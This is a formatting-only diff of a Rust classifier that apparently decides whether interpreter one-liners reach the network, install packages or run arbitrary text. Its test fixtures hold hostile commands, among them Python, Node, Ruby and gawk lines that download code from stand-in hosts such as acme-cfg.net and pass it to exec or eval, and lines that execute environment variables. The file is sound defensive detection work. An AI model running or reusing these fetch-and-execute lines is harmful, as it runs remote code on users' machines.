@@ -213,8 +213,9 @@ impl Text<'_> {
         let speaks = loads || has(NETWORK) && !self.only_imports_local(&read);
         let is_own = |host: &str| OWN.contains(&host) || inside.contains(&host);
         let texts = read.texts.iter().map(String::as_str);
-        let addresses: Vec<&str> =
-            texts.filter_map(|text| address(text).or_else(|| inside.contains(&text).then_some(text))).collect();
+        let addresses: Vec<&str> = texts
+            .filter_map(|text| address(text).or_else(|| inside.contains(&text).then_some(text)))
+            .collect();
         let foreign = addresses.iter().any(|host| !is_own(host));
         if speaks && (foreign || addresses.is_empty() && !self.stays_local(&read)) {
             return Effect::Fetches;
@@ -238,15 +239,18 @@ impl Text<'_> {
     pub(crate) fn starts_image_module(&self) -> bool {
         let read = Tokens::of(self.text);
         let local = |text: &String| {
-            (text.starts_with("./") || text.starts_with('/') && !text.starts_with("//")) && !text.contains("..")
+            (text.starts_with("./") || text.starts_with('/') && !text.starts_with("//"))
+                && !text.contains("..")
         };
         let modules = read.texts.iter().all(local);
         let known = read.words.iter().all(|word| {
-            matches!(word.as_str(), "await" | "import" | "require" | "using" | "library" | "main" | "run" | "runApp" | "app")
-                || word.starts_with(|c: char| c.is_ascii_uppercase())
-                    && !GRAVE.contains(&word.as_str())
-                    && !NETWORK.contains(&word.as_str())
-                    && !INSTALLERS.contains(&word.as_str())
+            matches!(
+                word.as_str(),
+                "await" | "import" | "require" | "using" | "library" | "main" | "run" | "runApp" | "app"
+            ) || word.starts_with(|c: char| c.is_ascii_uppercase())
+                && !GRAVE.contains(&word.as_str())
+                && !NETWORK.contains(&word.as_str())
+                && !INSTALLERS.contains(&word.as_str())
                 || word == "shiny"
                 || word == "plumber"
         });
@@ -257,8 +261,13 @@ impl Text<'_> {
         let _ = self;
         let network = read.words.iter().filter(|word| NETWORK.contains(&word.as_str()));
         // `request` and `url` alone are names that anything has.
-        network.into_iter().all(|word| matches!(word.as_str(), "request" | "url" | "URI" | "Net" | "net" | "http"))
-            && !read.texts.iter().any(|text| address(text).is_some() || text == "http" || text == "https" || text == "net")
+        network
+            .into_iter()
+            .all(|word| matches!(word.as_str(), "request" | "url" | "URI" | "Net" | "net" | "http"))
+            && !read
+                .texts
+                .iter()
+                .any(|text| address(text).is_some() || text == "http" || text == "https" || text == "net")
     }
 
     /// A socket of the machine itself, or a file that is read like one: no address at all.
@@ -268,7 +277,10 @@ impl Text<'_> {
             || words.contains(&"socket") && self.text.replace(' ', "").contains("socket.socket(1,");
         let closes = !words.iter().any(|word| matches!(*word, "connect" | "recv" | "urlopen" | "fetch"));
         let reads = matches!(self.program.as_str(), "php" | "R" | "Rscript")
-            && read.texts.iter().all(|text| text.starts_with('/') || text == "php://input" || text == "php://stdin")
+            && read
+                .texts
+                .iter()
+                .all(|text| text.starts_with('/') || text == "php://input" || text == "php://stdin")
             && words.iter().all(|word| !matches!(*word, "curl_exec" | "curl_init" | "fsockopen" | "url"));
         let asks = self.program.contains("awk") && words.contains(&"getline") && !self.text.contains("|&");
         unix && closes || reads || asks
@@ -277,15 +289,19 @@ impl Text<'_> {
 
 /// An option that loads a module which speaks to the network.
 fn loads_network(word: &str) -> bool {
-    ["open-uri", "net/http", "socket", "LWP", "IO::Socket", "HTTP::"].iter().any(|module| word.contains(module))
+    ["open-uri", "net/http", "socket", "LWP", "IO::Socket", "HTTP::"]
+        .iter()
+        .any(|module| word.contains(module))
 }
 
 /// An option that loads a file or module beside the text.
 fn is_loader(word: &str) -> bool {
     let short = ["-r", "-M", "-m", "-I", "-l"].iter().any(|option| {
-        word.strip_prefix(option).is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/'))
+        word.strip_prefix(option)
+            .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/'))
     });
-    short && word != "-lne" && word != "-le" || ["--require", "--import", "--loader"].iter().any(|o| word.starts_with(o))
+    short && word != "-lne" && word != "-le"
+        || ["--require", "--import", "--loader"].iter().any(|o| word.starts_with(o))
 }
 
 /// The host of a text that looks like an address, or is one.
@@ -312,7 +328,21 @@ fn address(text: &str) -> Option<&str> {
     let last = host.rsplit('.').next().unwrap_or("");
     let is_file = matches!(
         last,
-        "py" | "js" | "mjs" | "cjs" | "ts" | "rb" | "pl" | "php" | "lua" | "txt" | "json" | "yaml" | "yml" | "so" | "jl" | "R"
+        "py" | "js"
+            | "mjs"
+            | "cjs"
+            | "ts"
+            | "rb"
+            | "pl"
+            | "php"
+            | "lua"
+            | "txt"
+            | "json"
+            | "yaml"
+            | "yml"
+            | "so"
+            | "jl"
+            | "R"
     );
     let looks = labelled && !is_file && last.len() >= 2;
     looks.then_some(host)
@@ -355,9 +385,15 @@ impl Tokens {
                 }
                 '`' => read.computed = true,
                 // Ruby's list of words.
-                '%' if text.get(at..).is_some_and(|rest| rest.starts_with("%w[") || rest.starts_with("%w(")) => {
-                    let inner: String =
-                        characters.by_ref().map(|(_, next)| next).take_while(|c| !matches!(c, ']' | ')')).collect();
+                '%' if text
+                    .get(at..)
+                    .is_some_and(|rest| rest.starts_with("%w[") || rest.starts_with("%w(")) =>
+                {
+                    let inner: String = characters
+                        .by_ref()
+                        .map(|(_, next)| next)
+                        .take_while(|c| !matches!(c, ']' | ')'))
+                        .collect();
                     read.texts.extend(inner.get(2..).unwrap_or("").split_whitespace().map(str::to_owned));
                 }
                 '#' if matches!(text.get(at..).and_then(|rest| rest.chars().nth(1)), Some(' ')) => {
@@ -373,7 +409,7 @@ impl Tokens {
                         word.push(next);
                     }
                     // `process.env.TZ`, `$ENV{LANG}`: the name of a variable.
-                    let named = matches!(before.as_str(), "env." | "ENV{" | "Env."| "ENV.");
+                    let named = matches!(before.as_str(), "env." | "ENV{" | "Env." | "ENV.");
                     if !named && !word.starts_with(|c: char| c.is_ascii_digit()) {
                         read.words.push(word.clone());
                     }
@@ -401,7 +437,11 @@ impl Tokens {
         let after: Vec<String> = read
             .words
             .windows(2)
-            .filter(|pair| pair.first().is_some_and(|word| matches!(word.as_str(), "for" | "as" | "lambda" | "my" | "let" | "const" | "var")))
+            .filter(|pair| {
+                pair.first().is_some_and(|word| {
+                    matches!(word.as_str(), "for" | "as" | "lambda" | "my" | "let" | "const" | "var")
+                })
+            })
             .filter_map(|pair| pair.get(1).cloned())
             .collect();
         read.own.extend(after);
@@ -455,8 +495,16 @@ mod tests {
             ["python", "-c", "import socket; socket.create_connection(('127.0.0.1', 80), timeout=2)"],
             ["node", "-e", "console.log(process.env.TZ)"],
             ["node", "-e", "setInterval(()=>{},1000)"],
-            ["node", "-e", "fetch('http://localhost:3000/ok').then(r => process.exit(r.ok ? 0 : 1)).catch(() => process.exit(1))"],
-            ["node", "-e", "require('http').get('http://localhost:3000/h', r => process.exit(r.statusCode === 200 ? 0 : 1))"],
+            [
+                "node",
+                "-e",
+                "fetch('http://localhost:3000/ok').then(r => process.exit(r.ok ? 0 : 1)).catch(() => process.exit(1))",
+            ],
+            [
+                "node",
+                "-e",
+                "require('http').get('http://localhost:3000/h', r => process.exit(r.statusCode === 200 ? 0 : 1))",
+            ],
             ["node", "-e", "await import('./main.mjs')"],
             ["perl", "-e", "print $ENV{LANG}"],
             ["perl", "-e", "print \"ok\";"],
@@ -475,15 +523,48 @@ mod tests {
     #[test]
     fn what_fetches_installs_or_runs_text_is_said() {
         for (words, effect) in [
-            (["python", "-c", "import urllib.request as u; exec(u.urlopen(''.join(map(chr,[104]))).read())"], Effect::Fetches),
-            (["python", "-c", "import socket; s=socket.socket(40,1); s.connect((2,9000)); exec(s.recv(65536))"], Effect::Fetches),
-            (["node", "-e", "const r=await fetch(['https:','','acme-cfg.net','m.js'].join('/'))"], Effect::Fetches),
-            (["ruby", "-e", "require 'open-uri'; eval URI.open('https://a.example/x').read"], Effect::Fetches),
-            (["perl", "-e", "use IO::Socket::INET; IO::Socket::INET->new(PeerAddr=>\"a.example\")"], Effect::Fetches),
+            (
+                [
+                    "python",
+                    "-c",
+                    "import urllib.request as u; exec(u.urlopen(''.join(map(chr,[104]))).read())",
+                ],
+                Effect::Fetches,
+            ),
+            (
+                [
+                    "python",
+                    "-c",
+                    "import socket; s=socket.socket(40,1); s.connect((2,9000)); exec(s.recv(65536))",
+                ],
+                Effect::Fetches,
+            ),
+            (
+                ["node", "-e", "const r=await fetch(['https:','','acme-cfg.net','m.js'].join('/'))"],
+                Effect::Fetches,
+            ),
+            (
+                ["ruby", "-e", "require 'open-uri'; eval URI.open('https://a.example/x').read"],
+                Effect::Fetches,
+            ),
+            (
+                ["perl", "-e", "use IO::Socket::INET; IO::Socket::INET->new(PeerAddr=>\"a.example\")"],
+                Effect::Fetches,
+            ),
             (["julia", "-e", "using Pkg; Pkg.add(\"AcmeApp\")"], Effect::Installs),
-            (["gawk", "-Fx", "BEGIN{s=\"/inet/tcp/0/acme-cfg.net/80\"; print \"GET\" |& s; s |& getline l}"], Effect::Fetches),
+            (
+                [
+                    "gawk",
+                    "-Fx",
+                    "BEGIN{s=\"/inet/tcp/0/acme-cfg.net/80\"; print \"GET\" |& s; s |& getline l}",
+                ],
+                Effect::Fetches,
+            ),
             (["python", "-c", "import os; os.system(os.environ['TZ'])"], Effect::Unknown),
-            (["node", "-e", "new (require('vm').Script)(process.env.TZ).runInThisContext()"], Effect::Unknown),
+            (
+                ["node", "-e", "new (require('vm').Script)(process.env.TZ).runInThisContext()"],
+                Effect::Unknown,
+            ),
             (["perl", "-e", "exec $ENV{LANG}"], Effect::Unknown),
             (["php", "-r", "passthru(getenv('TZ'));"], Effect::Unknown),
             (["lua", "-e", "os.execute(os.getenv('TZ'))"], Effect::Unknown),
